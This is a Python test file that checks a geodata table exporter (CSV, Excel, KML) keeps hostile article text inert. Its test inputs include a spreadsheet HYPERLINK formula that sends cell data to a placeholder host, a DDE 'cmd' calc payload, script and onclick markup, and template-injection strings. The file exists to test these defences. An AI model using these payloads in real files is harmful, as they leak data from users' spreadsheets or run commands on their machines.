"""Text of articles that attacks a format: it stays text, and the file stays readable."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import numpy as np
import openpyxl
import pandas as pd
import pytest

from geodata.errors import ExportError
from geodata.tables.files import FORMATS, table_bytes
from geodata.tables.files.sharing import LONGEST_QUOTE, clean_text
from tests.tables.files.reading import read_back
from tests.taken import make_about

if TYPE_CHECKING:
    from pathlib import Path

    from geodata.tables.files import Format

FORMULA = '=HYPERLINK("http://boese.example/?"&A1;"Zur Meldung")'
HOSTILE = {
    "a formula": FORMULA,
    "a command": "@SUM(1+1)*cmd|'/C calc'!A0",
    "control characters": "Pan\x00zer\x08kolonne\x1b[31m rückt\x0b vor\uffff",
    "a lone surrogate": "Menge \ud83d auf dem Platz, dann \udc00 Stille",
    "markup": '<b onclick="alert(1)">Halt</b>]]></description><script>alert(2)</script>&amp;',
    "rich text of XlsxWriter": '<r><t>Ende</t></is></c><c r="A9"><f>1+1</f></c></r>',
    "a field of Google Earth": "$[event_id] und $[geDirections]",
    "a template": "{{ 7*7 }}${7*7}`x`\\",
    "lines": "Erste Zeile\r\nzweite\rdritte\u2028vierte",
    "writing direction": "\u202egnudleM\u202c ohne Ende\u200f",
    "a separator": 'Er sagte: "nie, niemals"; dann\tging er',
}


NAMES = ("event_id", "location", "excerpt", "source_headline", "source", "source_url")


def hostile_frame(*texts: str) -> pd.DataFrame:
    """Return a row a text, which stands in every column but those that files divide rows by."""
    return pd.DataFrame(
        {
            **{name: pd.Series(texts, dtype=object) for name in NAMES},
            "event_type": "protest",
            "latitude": 43.25,
            "longitude": 76.91,
        }
    )


@pytest.mark.parametrize("form", FORMATS)
def test_hostile_text_comes_back_as_text(form: Format, tmp_path: Path) -> None:
    frame = hostile_frame(*HOSTILE.values())
    rows = read_back(table_bytes(frame, form, make_about()), form, tmp_path)
    for name in NAMES:
        # Only CSV has to disarm a formula, and only rich text gets a space.
        found = [row[name].removeprefix("'").rstrip(" ") for row in rows]
        assert dict(zip(HOSTILE, found, strict=True)) == {
            what: clean_text(text) for what, text in HOSTILE.items()
        }


@pytest.mark.parametrize("form", FORMATS)
def test_a_headline_of_a_megabyte_is_cut_and_harms_nothing(form: Format, tmp_path: Path) -> None:
    long = "Sondersitzung des Krisenstabs " * 35_000
    assert len(long) > 1_000_000
    frame = hostile_frame(long).assign(event_id="e1")
    content = table_bytes(frame, form, make_about(rows=1))
    assert len(content) < 100_000
    (row,) = read_back(content, form, tmp_path)
    assert row["source_headline"].endswith("Krisenstabs…")
    assert len(row["source_headline"]) <= LONGEST_QUOTE
    assert len(row["excerpt"]) <= LONGEST_QUOTE


@pytest.mark.parametrize("form", FORMATS)
def test_hostile_words_in_what_a_file_says_of_itself_stay_text(
    form: Format, tmp_path: Path
) -> None:
    said = tuple(("Words", clean_text(text)) for text in HOSTILE.values())
    about = replace(make_about(rows=1), filters=said)
    assert len(read_back(table_bytes(hostile_frame("Halt"), form, about), form, tmp_path)) == 1


@pytest.mark.parametrize("text", [FORMULA, "http://boese.example/", "0012", "1e5", "{=1+1}"])
def test_excel_holds_text_as_text(text: str) -> None:
    content = table_bytes(hostile_frame(text), "xlsx", make_about(rows=1))
    cell = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


def test_a_workbook_holds_neither_formula_nor_link() -> None:
    content = table_bytes(hostile_frame(*HOSTILE.values()), "xlsx", make_about())
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            part = ET.fromstring(book.read(name))  # noqa: S314 - our own
            tags = {one.tag.partition("}")[2] for one in part.iter()}
            assert not tags & {"f", "hyperlink", "hyperlinks"}, name


def test_what_excel_would_decode_is_written_so_that_it_shows_it() -> None:
    # Excel reads _x0041_ as "A", and _x005F_ as the underscore before it; openpyxl neither.
    content = table_bytes(hostile_frame("Feld_x0041_"), "xlsx", make_about(rows=1))
    cell = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    assert cell.value == "Feld_x005F_x0041_"


def test_more_rows_than_a_sheet_has_are_refused() -> None:
    frame = pd.DataFrame({"start": np.zeros(1_048_576, dtype=np.int8)})
    with pytest.raises(ExportError, match=r"at most 1048575 rows.*or CSV"):
        table_bytes(frame, "xlsx", make_about(rows=len(frame)))


def test_a_balloon_of_google_earth_shows_no_html_of_an_article() -> None:
    content = table_bytes(hostile_frame(HOSTILE["markup"]), "kml", make_about(rows=1))
    space = "{http://www.opengis.net/kml/2.2}"
    tree = ET.fromstring(content)  # noqa: S314 - our own
    (described,) = (one.findtext(f"{space}description") for one in tree.iter(f"{space}Placemark"))
    assert described is not None
    assert "<b" not in described.replace("<br>", "")
    assert "<script" not in described
    assert "&lt;script&gt;" in described
    # It shows nothing but that description.
    assert {one.text for one in tree.iter(f"{space}text")} == {"$[description]"}
    named = table_bytes(hostile_frame("$[event_id]"), "kml", make_about(rows=1))
    (described,) = (
        one.findtext(f"{space}description")
        for one in ET.fromstring(named).iter(f"{space}Placemark")  # noqa: S314 - our own
    )
    assert described is not None
    assert "$" not in described
